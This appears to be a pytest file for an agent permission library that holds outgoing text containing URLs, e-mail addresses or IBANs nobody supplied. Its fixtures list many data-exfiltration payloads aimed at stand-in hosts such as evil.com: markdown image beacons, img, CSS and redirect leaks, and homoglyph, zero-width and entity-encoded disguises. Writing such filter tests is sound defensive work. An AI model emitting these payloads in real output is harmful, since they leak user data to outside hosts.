"""Addresses in outgoing text, and the directories that vouch for them: nothing that nobody gave goes out."""

from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from remit.core import Allow, Decision, Deny, Hold, Json, JsonObject, canonical_bytes
from remit.permissions import Directory, Flow, Kind, Label, Memory, labels_of, provenance_suffices
from remit.permissions._addresses import LINKS_MAX, LOOKS_MAX
from remit.permissions._iban import is_iban
from remit.permissions._links import links_in

NOW = datetime(2026, 11, 22, tzinfo=UTC)
IBAN = "GB33BUKB20201555555555"
GIVEN = f"send it to ana@good.example, see https://good.example/a/b?x=1#top and www.good.com, account {IBAN}"
RECORD = Flow(consequential=False, content=frozenset(), sources={}, labels=(("", Label.RECORD),), reviewers=())
INBOX = Flow(consequential=False, content=frozenset(), sources={}, labels=(), reviewers=())
DOMAINS = Directory("staff", Kind.DOMAINS, {"good.example": None, "bücher.example": None, "Other.Example": NOW})
PAYEES = Directory("payees", Kind.VALUES, {IBAN: None, "Ana@Good.example": None, "https://good.example/x": None})


def send(*links: str, to: tuple[str, ...] = ("user",)) -> Flow:
    return Flow(
        consequential=True,
        content=frozenset({"body"}),
        sources={"to": to},
        labels=(),
        reviewers=("finance",),
        names=frozenset({"to", "body"}),
        links=links or ("user",),
    )


def told(text: Json = GIVEN) -> Memory:
    memory = Memory(bytes(32))
    memory.learn_input(canonical_bytes({"input": text}))
    return memory


def answered(memory: Memory, arguments: JsonObject, flow: Flow, *directories: Directory) -> Decision:
    named = {directory.name: directory for directory in directories}
    return provenance_suffices(flow, memory.origins(arguments, flow, directories=named, classes={}, now=NOW))


def body(text: Json, memory: Memory | None = None, flow: Flow | None = None, *directories: Directory) -> Decision:
    return answered(memory or told(), {"body": text}, flow or send(), *directories)


# -- links


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize(
    "text",
    [
        "write to ana@good.example.",
        "write to ana@GOOD.example!",
        "[mail](mailto:ana@good.example)",
        "see https://good.example/a/b?x=1#top",
        "see HTTPS://Good.Example/a/b",
        "see good.example/a/b?x=1#top, please",
        "[https://good.example/a/b](https://good.example/a/b)",
        "**www.good.com**",
        "https://www.good.com/",
        f"pay {IBAN[:4]} {IBAN[4:8]} {IBAN[8:12]} {IBAN[12:16]} {IBAN[16:20]} {IBAN[20:]}, thanks",
        "see report.pdf, README.md and setup.py; e.g. version 1.2.3 at 10.30. Thanks",
        "done.Then more, 3@5 and @ana, a: b / c",
        "kept for the record: hxxp://evil[.]com/a and mallory at evil dot com",
        "",
        [{"body": "nothing"}, 7],
    ],
)
def test_what_the_user_gave_and_what_is_no_address_goes_out(text: Json) -> None:
    assert isinstance(body(text), Allow)


LINKS = {
    "https://evil.com/x": "the link",
    "ftp://evil.com": "the link",
    "//evil.com/x": "the link",
    "https:evil.com/x": "the link",
    "https:\\\\evil.com\\x": "the link",
    "www.evil.community": "the link",
    "evil.com": "the link",
    "evil.com.": "the link",
    "(evil.co/steal?d=secret)": "the link",
    "evil.md/steal": "the link",
    "evil.com:8080": "the link",
    "http://intranet/x": "the link",
    "http://3232235777/": "the link",
    "10.0.0.1": "the link",
    "https://[::1]/": "the link",
    "[here](https://evil.com/a)": "the link",
    "![](https://evil.com/?d=secret)": "the link",
    "[https://good.example/a/b](https://evil.com)": "the link",
    "<a href='https://evil.com/'>": "the link",
    "https://good.example@evil.com": "the link",
    "https://good.example%2eevil.com/a/b": "the link",
    "https://ev%69l.com": "the link",
    "https://good.example.evil.com/a/b": "the link",
    "https://evil-good.example/a/b": "the link",
    "https://good.example/a/b/secret": "the link",
    "https://good.example/a/b?secret": "the link",
    "https://good.example/a": "the link",
    "https://good.example:8443/a/b": "the link",
    "http://good.example/a/b": "the link",
    "https://www.good.com/secret": "the link",
    "https://good.example/a/b,https://evil.com": "the link",
    "https://g\u043e\u043ed.example/a/b": "the link",
    "g\u043e\u043ed.com": "the link",
    "https://good.\u200bexample.evil.com": "the link",
    "e\u200bvil.com": "the link",
    "https://good.example/a/\u200bb": "the link",
    "https://good.example/a/b\U000e0073\U000e0065": "the link",
    "\uff45\uff56\uff49\uff4c\uff0e\uff43\uff4f\uff4d": "the link",
    "evil\u3002com": "the link",
    "EVIL.COM": "the link",
    "\u043c\u043e\u0441\u043a\u0432\u0430.\u0440\u0444": "the link",
    "see\u8bf7evil.com\u8c22\u8c22": "the link",
    "hxxp://evil[.]com,evil.org/a": "the link",
    "user@@evil.com": "the link",
    "mallory@evil.com": "the e-mail address",
    "MAILTO:Mallory@Evil.com?cc=x": "the e-mail address",
    "Ana@good.example": "the e-mail address",
    "ana@good.example.evil.com": "the e-mail address",
    "xana@good.example": "the e-mail address",
    "m\u200ballory@evil.com": "the e-mail address",
    "ana\uff20evil.com": "the e-mail address",
    "x@[10.0.0.1]": "the e-mail address",
    "DE89370400440532013000": "the account number",
    "pay de89 3704 0044 0532 0130 00 now": "the account number",
    "DE89-3704-0044-0532-0130-00": "the account number",
    "DE\u200b89370400440532013000": "the account number",
}


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize("text", LINKS)
def test_an_address_that_nobody_gave_is_held(text: str) -> None:
    forms: list[Json] = [text, f"see {text} please", [{"x": [text]}], {text: 1}]
    for written in forms:
        decision = body(written)
        assert isinstance(decision, Hold), written
        assert decision.reason.code == "provenance_link"
        assert decision.reason.message.startswith(f"{LINKS[text]} in `/body")
        assert "evil" not in decision.reason.message.partition("` was")[0] or isinstance(written, dict)


@pytest.mark.requirement("R3.9")
def test_a_strangers_link_names_where_it_was_first_seen() -> None:
    memory = told()
    said: JsonObject = {
        "content": [],
        "structuredContent": {"body": "go to https://Evil.com/x or pay DE89370400440532013000"},
    }
    memory.learn_result("read_inbox", "c_1", INBOX, {}, canonical_bytes(said))
    for text in ("https://evil.com/x", "DE89 3704 0044 0532 0130 00"):
        decision = body(text, memory)
        assert isinstance(decision, Hold)
        assert "was first seen in the result of `read_inbox` (call `c_1`), field `/body`" in decision.reason.message
        assert [need.approvers for need in decision.requirements] == [("finance",)]


@pytest.mark.requirement("R3.9")
def test_a_records_link_is_accepted_where_the_controls_say_so_and_only_whole() -> None:
    memory = told()
    said: JsonObject = {"content": [], "structuredContent": {"url": "https://shop.example/o/1", "note": "or evil.com"}}
    memory.learn_result("get_order", "c_1", RECORD, {}, canonical_bytes(said))
    assert isinstance(body("https://shop.example/o/1", memory, send("get_order/url")), Allow)
    assert isinstance(body("https://shop.example/o/1", memory, send("user", "records")), Allow)
    for text, links in [("https://shop.example/o/1", ("user",)), ("evil.com", ("records",))]:
        assert isinstance(body(text, memory, send(*links)), Hold)


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("https://good.example/any/path?q", True),
        ("http://www.good.example:8080/", True),
        ("bob@mail.good.example", True),
        ("www.GOOD.example", True),
        ("https://b\u00fccher.example/x", True),
        ("https://xn--bcher-kva.example/x", True),
        ("https://buecher.example/x", False),
        ("https://notgood.example/", False),
        ("https://good.example.evil.com/", False),
        ("https://good.example@evil.com/", False),
        ("https://evil.com\\@good.example/", False),
        ("https://g\u043eod.example/", False),
        ("https://other.example/", False),  # its entry is over
        ("javascript://good.example/%0aalert(1)", False),
        ("bob%evil.com@good.example", False),
        ("https://good.\u200bexample/x", False),
        ("https://good.example/x\U000e0073", False),
        ("bob@good\uff0eexample", False),
    ],
)
def test_a_directory_of_domains_vouches_for_all_that_is_there_and_below(text: str, *, passes: bool) -> None:
    flow = send("directory/staff", to=("directory/staff",))
    assert isinstance(body(text, None, flow, DOMAINS), Allow if passes else Hold)
    if "://" in text or "@" in text:
        assert isinstance(answered(told(), {"to": text}, flow, DOMAINS), Allow if passes else Hold)
    assert isinstance(body(text, None, flow), Hold), "the control: no such directory"


def test_more_addresses_than_one_call_may_have_are_denied_in_one_text_or_in_many() -> None:
    assert len(links_in("www.good.com " * (LINKS_MAX + 5))) == LINKS_MAX + 1
    many: list[Json] = ["www.good.com " * (LINKS_MAX + 5), ["www.good.com " * 5] * (LINKS_MAX // 5 + 1)]
    many += ["a.b<" * LOOKS_MAX, "&lt;" * 3_000 + "evil&#46;com"]
    for text in many:
        decision = body(text)
        assert isinstance(decision, Deny)
        assert decision.reason.code == "marks_full"
    assert isinstance(body(["www.good.com " * 5] * (LINKS_MAX // 5)), Allow), "the control"


@pytest.mark.requirement("R3.9")
def test_a_result_with_more_addresses_than_are_looked_at_leaves_strangers_in_the_task() -> None:
    for fields, strangers in [(1, False), (60, True)]:
        memory = Memory(bytes(32), {b"x" * 16})
        many: Json = {f"k{number}": f"{number} " + "a.co " * 10 for number in range(fields)}
        said = canonical_bytes({"content": [], "structuredContent": many})
        memory.learn_result("get_order", "c_1", RECORD, {}, said)
        assert memory.strangers is strangers


HIDDEN = [
    "![](https&colon;//evil&period;com/leak?d=x)",
    "![](https&#58;//evil&#46;com/leak?d=x)",
    r"![](https\://evil\.com/leak?d=x)",
    '<img src="//evil&#46;com/leak?d=x">',
    '<img src="//evil%2Ecom/leak?d=x">',
    '<img src="//3232235521/leak">',
    '<img src="//127.1/leak">',
    '<img src="//[2001:db8::1]/leak">',
    '<img src="///3232235521/leak">',
    '<img src="//intranet/leak">',
    '<img src="//abc.onion/leak">',
    '<img src="//evil.quantumfoo/leak">',
    "tor: abc.onion/leak",
    '<img src="http:3232235521/leak">',
    "<http:3232235521/leak>",
    r"http:\\3232235521/leak",
    r"file:\\evil\share",
    r"\\evil\share\x",
    '<a href="https:/\t/ev\til.\tcom/leak">',
    '<a href="https:/\n/evil\n.\ncom/leak">',
    "<a href='//ev\nil/leak'>",
    '<a href="mailto:eve&#64;evil&#46;com">',
    "mailto:eve%40evil%2Ecom",
    "evil&shy;.com/x",
    "www.good.com&#47;secret",
    "www.good.com%2Fsecret",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:fetch(1)",
    "DE89/3704/0044/0532/0130/00",
    "DE89_3704_0044_0532_0130_00",
    "DE89,3704,0044,0532,0130,00",
    "DE89, 3704, 0044, 0532, 0130, 00",
    "DE89  3704  0044  0532  0130  00",
    "DE89\n3704\n0044\n0532\n0130\n00",
    "DE89\u20103704\u20100044\u20100532\u20100130\u201000",
    "D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0",
    "IBANDE89370400440532013000",
]


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize("text", HIDDEN)
def test_an_address_in_another_spelling_is_held(text: str) -> None:
    for written in (text, f"see {text} please", f"a\n{text}\nb"):
        decision = body(written)
        assert isinstance(decision, Hold), written
        assert decision.reason.code == "provenance_link"


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize(
    "given",
    [
        "https://good.example/a%20b?x=1&copy=2",
        "https://good.example/login?next=https%3A%2F%2Fother.example%2Fhome",
        "https://good.example/a?x=1&lt=5#y",
    ],
)
def test_a_users_own_url_with_escapes_goes_out(given: str) -> None:
    assert isinstance(body(f"see {given} & mail 100%", told(f"see {given}")), Allow)
    assert isinstance(body(f"see {given}"), Hold), "the control"


BUSINESS = {
    "letter": """Dear Ms Keller,
thank you for your call on 12.11.2026 at 10:30. We looked into order 4711/A: 3 of 12 parts (25%) arrived on time.
The rest follows by Friday, i.e. within 2-3 days. The price stays at EUR 1,250.00 (net), or 1.487,50 EUR incl. 19% VAT.
Kind regards
A. Smith & Co.""",
    "markdown": r"""# Release 2.4.1

- fixed: the time-out (see CHANGELOG.md, setup.py and report-2026.pdf)
- **new**: exports as .csv
* AT&T and R&D agreed -- 50% now
1. a/b tests, and/or
2. C:\temp\report.docx or /var/log/app.log

| name | amount |
|---|---|
| Bo | 4,200.00 |""",
    "code": """if (a // 2) { // no comment }
x = "tab\there"; y = 'l\\n'; // see above
10/3, 24/7, n/a; note:this; re:your mail""",
    "numbers": """At 10 30 people came in; no 15 of them left. IT 27 departments, DE 89.
Meet me at 20 High Street.
NO 12,
GB 22""",
    "quotes": """Tom's and 'quoted\ttext' "with
lines" (and (nested)) "yes
and no". 100% &amp; more &lt;b&gt; 5 &times; 3 &euro;""",
    "ids": "Serial no. AB12-34CD-56EF, invoice RE-2026-00042, part 4.2.1, said ok.Thanks! data: see below, file: x",
    "latex": r"\documentclass{article} \section{One} a \\ b, 2\*3, snake\_case, \frac{1}{2}",
}


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize("name", BUSINESS)
def test_in_ordinary_business_text_nothing_is_found(name: str) -> None:
    text = BUSINESS[name]
    assert links_in(text) == []
    assert isinstance(body(text), Allow)


SWALLOWED = [
    "<a href='https://good.example/'style='background:url(https://evil.com/leak?d=S)'>",
    "background:url(https://good.example/);list-style:url(https://evil.com/leak)",
    "https://good.example/,https://evil.com/leak",
    "(https://good.example/)(https://evil.com/leak)",
    "https://good.example/|https://evil.com/x",
    "https://good.example/;evil.com/x",
    "https://good.example/?next=https://evil.com/",
    "https://good.example/?next=//evil.com/x",
    "https://good.example/?next=https%3A%2F%2Fevil.com/",
    "<img src='https://good.example/'srcset='//evil.com/leak?d=S'>",
    "good.example/x`https://evil.com/x`",
    "https://good.example/*https://evil.com/x*",
    "https://good.example/,mallory@evil.com",
    "https://good.example/?to=" + "https://good.example/" * 2_000,
]


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize("text", SWALLOWED)
def test_a_listed_domain_vouches_for_no_further_address_behind_it(text: str) -> None:
    flow = send("directory/staff", "user")
    assert isinstance(body(text, None, flow, DOMAINS), Hold)
    mended = text.replace("evil.com", "www.good.example")
    if "evil" in text:
        assert isinstance(body(mended, None, flow, DOMAINS), Allow), "the control"
    for fine in ("https://good.example/a,b;c/report.pdf?x=(1)|2&y=v1.2.3", "https://good.example/?by=ana@good.example"):
        assert isinstance(body(fine, None, flow, DOMAINS), Allow)


# -- directories


@pytest.mark.requirement("R3.9")
@pytest.mark.parametrize(
    ("value", "passes"),
    [
        (IBAN, True),
        (IBAN.lower(), False),
        (f"{IBAN} ", False),
        ("Ana@GOOD.example", True),
        ("ana@good.example", False),  # a mailbox's name may care about case (RFC 5321, section 2.4)
        ("https://GOOD.example/x", True),
        ("https://good.example/X", False),
        ("https://good.example/x/", False),
        (IBAN.replace("B", "\u0412"), False),
        (IBAN + "\u200b", False),
        (5, False),
    ],
)
def test_a_directory_of_values_is_exact_but_for_what_has_no_case(value: Json, *, passes: bool) -> None:
    flow = send(to=("directory/payees",))
    memory = told("hello")
    assert isinstance(answered(memory, {"to": value}, flow, PAYEES), Allow if passes else Hold)
    origins = memory.origins({"to": value}, flow, directories={"payees": PAYEES}, classes={}, now=NOW)
    assert labels_of(origins) == (("to", "directory" if passes else "nowhere"),)


@pytest.mark.requirement("R3.9")
def test_an_entry_is_over_from_its_time_on_and_an_unsigned_list_is_empty() -> None:
    soon = Directory("payees", Kind.VALUES, {IBAN: NOW + timedelta(microseconds=1)})
    assert soon.has(IBAN, NOW)
    assert not soon.has(IBAN, NOW + timedelta(microseconds=1))
    assert not Directory("payees", Kind.VALUES, {IBAN: None}, missing="nobody signed it").has(IBAN, NOW)
    assert not Directory("d", Kind.DOMAINS, {"good.example": None}, missing="no").has("a@good.example", NOW)
    assert not Directory("d", Kind.DOMAINS, {"": None, ".": None, "a b": None}).has("a@good.example", NOW)


@pytest.mark.requirement("R3.9")
def test_a_directory_counts_only_where_an_argument_names_it() -> None:
    decision = answered(told("hello"), {"to": IBAN}, send(), PAYEES)
    assert isinstance(decision, Hold)
    assert "`/to` is in `directory/payees`, which is not a source it accepts" in decision.reason.message
    assert isinstance(answered(told("hello"), {"to": IBAN}, send(to=("payees",)), PAYEES), Hold)


def test_the_worst_label_of_an_argument_counts() -> None:
    memory = told("ana@good.example")
    memory.learn_result(
        "read", "c_1", INBOX, {}, canonical_bytes({"content": [], "structuredContent": {"x": "mallory"}})
    )
    found = memory.origins(
        {"to": ["ana@good.example", "Mallory"], "a~/b": "guess", "c": [True]},
        send(),
        directories={},
        classes={},
        now=NOW,
    )
    assert labels_of(found) == (("a~/b", "nowhere"), ("to", "untrusted"))


# -- over any words

DISGUISES = st.lists(st.sampled_from(["\u200b", "\u00ad", "\u2060", "\ufe0f", "\U000e0041"]), max_size=2).map("".join)


@pytest.mark.requirement("R3.9")
@settings(max_examples=100, deadline=None)
@given(st.data())
def test_a_link_is_found_in_any_case_width_and_disguise(data: st.DataObject) -> None:
    link = data.draw(st.sampled_from(["evil.com", "mallory@evil.com", "https://evil.com/a", "DE89370400440532013000"]))
    chars = []
    for char in link:
        cased = data.draw(st.sampled_from([char, char.upper(), chr(ord(char) + 0xFEE0)]))
        chars.append(cased + data.draw(DISGUISES))
    text = data.draw(st.sampled_from(["", "see ", "(", "[x](", "\u201c", "\n"])) + "".join(chars)
    assert isinstance(body(text), Hold)


@pytest.mark.requirement("R3.9")
@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="a.@:/ -[]()\u043e%c1\u200b\uff0eom", max_size=30))
def test_text_around_what_the_user_gave_never_makes_another_address_theirs(text: str) -> None:
    found = [one for one in links_in(f"{text}https://good.example/a/b") if one.kind == "url"]
    assert found, "an address cannot be hidden by what stands before it"


def test_an_iban_is_known_by_its_check_digits() -> None:
    assert is_iban(IBAN)
    assert not is_iban("GB34BUKB20201555555555")
    assert not is_iban("ZZ33BUKB20201555555555")
